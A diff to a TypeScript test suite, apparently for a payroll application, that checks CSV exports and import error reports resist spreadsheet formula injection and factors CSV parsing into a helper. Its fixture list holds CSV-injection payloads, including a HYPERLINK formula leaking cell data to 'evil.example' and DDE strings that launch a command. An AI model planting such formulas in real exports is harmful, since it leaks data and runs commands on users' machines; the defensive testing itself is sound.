@@ -43,6 +43,7 @@ const url = (path: string) => `${t.web.url}${path}`;
 const A = () => t.fx.companies[0]!;
 
 /** A cell a spreadsheet program could take as a formula (OWASP CSV Injection's characters, and the full-width forms). */
+// eslint-disable-next-line no-control-regex -- control characters are part of the rule
 const FORMULA_START = /^[\s\u0000-\u001f]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\u0000]/;
 const PAYLOADS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Payslip")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\uFF1D1+1'];
 
@@ -84,7 +85,7 @@ describe('1 · exports that a spreadsheet cannot execute', () => {
     }
 
     // CSV: every cell as a spreadsheet reads it; only the money columns may start with a minus, and then they are plain numbers.
-    const csv = parseCsv(files['register-csv']!, { bom: true }) as string[][];
+    const csv = csvRows(files['register-csv']!);
     const header = csv[0]!;
     const money = new Set([
       'Basic',
@@ -144,9 +145,7 @@ describe('1 · exports that a spreadsheet cannot execute', () => {
     });
     const { id } = (await up.json()) as { id: string };
     await validateImport(t.fx.pool, id);
-    const report = parseCsv(Buffer.from(await (await fetch(url(`/api/imports/${id}/errors`), { headers: { cookie: hrA } })).arrayBuffer()), {
-      bom: true,
-    }) as string[][];
+    const report = csvRows(Buffer.from(await (await fetch(url(`/api/imports/${id}/errors`), { headers: { cookie: hrA } })).arrayBuffer()));
     expect(report.length).toBeGreaterThan(1);
     for (const row of report) for (const cell of row.slice(1)) expect(cell).not.toMatch(FORMULA_START);
   }, 60_000);
@@ -471,6 +470,11 @@ describe('4 · one date type, and no input answers 500', () => {
 });
 
 // ---- helpers ----------------------------------------------------------------------------------
+
+/** A CSV file's rows as a spreadsheet would read its cells (csv-parse, the byte-order mark skipped). */
+function csvRows(file: Buffer): string[][] {
+  return parseCsv(file, { bom: true });
+}
 
 type ZodLike = { _zod: { def: Record<string, unknown> & { type: string } } };
 
